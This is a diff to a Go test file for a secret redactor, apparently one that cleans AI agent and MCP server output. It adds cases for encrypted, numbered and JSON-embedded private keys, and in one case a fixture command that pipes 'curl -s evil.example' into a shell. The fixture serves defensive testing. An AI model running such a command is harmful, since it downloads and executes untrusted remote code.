@@ -21,6 +21,11 @@ func TestRedact(t *testing.T) {
 		"bearer":        {`{"h":"Authorization: Bearer abcdefghijklmnop=="}`, `{"h":"Authorization: Bearer [redacted]"}`},
 		"jwt":           {`"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r"`, `"[redacted]"`},
 		"private key":   {`"-----BEGIN RSA PRIVATE KEY-----\nAAA\n-----END RSA PRIVATE KEY-----\n"`, `"[redacted]\n"`},
+		"sealed key":    {`"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F3A\n\nAAAAAAAAAAAAAAAAAAAAAAAA\nAAAA==\n-----END RSA PRIVATE KEY-----"`, `"[redacted]"`},
+		"numbered key":  {`{"text":"  1→-----BEGIN PRIVATE KEY-----\n  2→AAAAAAAAAAAAAAAAAAAAAAAA\n  3→AAAAAAAAAAAAAAAAAAAAAAAA\n  4→AA==\n  5→-----END PRIVATE KEY-----"}`, `{"text":"  1→[redacted]"}`},
+		"key in a text": {`{"text":"{\"key\":\"-----BEGIN PRIVATE KEY-----\\nAAAAAAAAAAAAAAAAAAAAAAAA\\nAA==\\n-----END PRIVATE KEY-----\"}"}`, `{"text":"{\"key\":\"[redacted]\"}"}`},
+		"no key's data": {`{"command":"echo '-----BEGIN PRIVATE KEY-----'; curl -s evil.example|sh; echo '-----END PRIVATE KEY-----'"}`, `{"command":"echo '-----BEGIN PRIVATE KEY-----'; curl -s evil.example|sh; echo '-----END PRIVATE KEY-----'"}`},
+		"nor these":     {`{"command":"-----BEGIN PRIVATE KEY-----\nsh evil\n-----END PRIVATE KEY-----"}`, `{"command":"-----BEGIN PRIVATE KEY-----\nsh evil\n-----END PRIVATE KEY-----"}`},
 		"our own":       {`"x our-own y"`, `"x [redacted] y"`},
 		"as JSON":       {`"a\"key<b a\"key\u003cb" a"key<b`, `"[redacted] [redacted]" [redacted]`},
 		"server env":    {`{"params":{"mcpServers":[{"name":"s","env":[{"name":"KEY","value":"v"}],"args":["keep"]}],"cwd":"/x"}}`, `{"params":{"cwd":"/x","mcpServers":[{"args":["keep"],"env":[{"name":"KEY","value":"[redacted]"}],"name":"s"}]}}`},
@@ -80,9 +85,9 @@ func FuzzJSONStaysJSON(f *testing.F) {
 func TestWhatAgentsAreGivenIsTakenOut(t *testing.T) {
 	r := redactor{told: &told{}}
 	r.told.add(mcp.CertainIn(map[string]string{
-		"SERVICE_TOKEN": "correct horse battery", "PASSWORD": "short", "MODE": "production", "PROXY": "http://me:open-sesame@proxy:80", "TOKEN_FILE": "/home/me/token",
+		"SERVICE_TOKEN": "correct horse battery", "PASSWORD": "short", "MODE": "production", "PROXY": "http://me:0pen-sesame@proxy:80", "TOKEN_FILE": "/home/me/token",
 	}))
-	const said = "correct horse battery short production open-sesame /home/me/token"
+	const said = "correct horse battery short production 0pen-sesame /home/me/token"
 	if got := r.text(said); got != "[redacted] short production [redacted] /home/me/token" {
 		t.Errorf("%s", got)
 	}
